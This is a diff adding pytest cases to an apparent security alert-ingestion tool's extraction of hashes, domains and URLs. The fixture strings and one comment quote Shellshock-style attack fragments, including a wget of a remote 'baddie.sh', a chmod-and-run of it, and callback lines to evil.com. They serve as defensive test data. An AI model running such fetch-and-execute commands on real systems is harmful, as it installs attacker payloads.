@@ -1,11 +1,16 @@
 """Observable normalisation, internal flagging and IOC extraction from text."""
 
+import json
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from cases.ingest.observables import is_internal, normalise
 from cases.ingest.text_indicators import observables_in_text
+from cases.models import Alert
+from cases.services.extraction import alert_extract_observables
+from tests.cases.vendor.support import document, observables_of
 
 
 @pytest.mark.parametrize(
@@ -113,3 +118,69 @@ def test_extraction_ignores_things_that_only_look_like_indicators():
 def test_extraction_is_bounded():
     text = " ".join(f"198.51.100.{i % 250} 192.0.2.{i % 250}" for i in range(500))
     assert len(observables_in_text(text)) <= 50
+
+
+@pytest.mark.parametrize(
+    ("text", "hashes"),
+    [
+        ("MD5: 44d88612fea8a8f36de82e1278abb02f", {"44d88612fea8a8f36de82e1278abb02f"}),
+        ("file.hash.md5=44d88612fea8a8f36de82e1278abb02f", {"44d88612fea8a8f36de82e1278abb02f"}),
+        ("md5sum of the dropper 44d88612fea8a8f36de82e1278abb02f", {"44d88612fea8a8f36de82e1278abb02f"}),
+        ("Alert 5f3a9c0e1b2d4e6f8a7b9c0d1e2f3a4b raised on agent c8d1292a8a904216aa25ab728f4b45fd", set()),
+        ("{5F3A9C0E1B2D4E6F8A7B9C0D1E2F3A4B} GUID without dashes", set()),
+        # The hash word is about the first id; the second, after "alert id", is not a hash.
+        (
+            "hash 44d88612fea8a8f36de82e1278abb02f alert id 5f3a9c0e1b2d4e6f8a7b9c0d1e2f3a4b",
+            {"44d88612fea8a8f36de82e1278abb02f"},
+        ),
+        ("hash:\n5f3a9c0e1b2d4e6f8a7b9c0d1e2f3a4b", set()),  # context is on the token's line
+        (  # other lengths are still read as hashes
+            "dropped 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
+            {"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"},
+        ),
+    ],
+)
+def test_32_hex_digits_are_a_hash_only_when_the_text_says_so(text, hashes):
+    assert {v for t, v, _ in observables_in_text(text) if t == "hash"} == hashes
+
+
+@pytest.mark.parametrize(
+    ("text", "domains"),
+    [
+        ("Attachment report-001.zip was opened by the user", set()),
+        ("saved as -001.zip in the temp folder", set()),
+        ("GET /cgi-bin/jarrewrite.sh then chmod 777 baddie.sh; ./baddie.sh", set()),
+        ("preloaded through ld.so and libcrypto.so.1.1", set()),
+        ("beacon to mail.google.zip and update.microsoft.mov", {"mail.google.zip", "update.microsoft.mov"}),
+        ("lure https://github.zip/x and sender bob@invoice.zip", {"github.zip", "invoice.zip"}),
+        ("flag --proxy=-evil.example.com and x.evil-.com", set()),
+        ("callback to evil.com and video.mov", {"evil.com"}),
+    ],
+)
+def test_file_names_are_not_domains(text, domains):
+    assert {v for t, v, _ in observables_in_text(text) if t == "domain"} == domains
+
+
+def test_the_alerts_own_ids_are_not_indicators():
+    text = "TheHive alert 5f3a9c0e1b2d4e6f8a7b9c0d1e2f3a4b: md5 5f3a9c0e1b2d4e6f8a7b9c0d1e2f3a4b from 198.51.100.7"
+    ref = "external:splunk:5F3A9C0E1B2D4E6F8A7B9C0D1E2F3A4B"
+    assert {v for _, v, _ in observables_in_text(text, ignore=(ref,))} == {"198.51.100.7"}
+    assert "5f3a9c0e1b2d4e6f8a7b9c0d1e2f3a4b" in {v for _, v, _ in observables_in_text(text)}
+
+
+@pytest.mark.django_db
+def test_wazuh_shellshock_script_names_are_not_extracted_as_domains(client, ingest_source):
+    # wazuh/wazuh-indexer's sample: "GET /cgi-bin/jarrewrite.sh", "wget http://0.0.0.0/baddie.sh"
+    # (.sh is Saint Helena's TLD); they are file names.
+    response = client.post(
+        "/api/v1/alerts/wazuh/",
+        json.dumps(document("wazuh_indexer_asl_shellshock_hit.json")),
+        content_type="application/json",
+        HTTP_AUTHORIZATION=f"Token {ingest_source[1]}",
+    )
+    assert response.status_code == 201, response.json()
+    alert = Alert.objects.get(pk=response.json()["id"])
+    alert_extract_observables(alert=alert)
+    extracted = {(t, v) for t, v, role in observables_of(alert) if role == "extracted"}
+    assert not {v for t, v in extracted if t == "domain"}
+    assert ("url", "http://0.0.0.0/baddie.sh;") in extracted  # the URL itself is kept
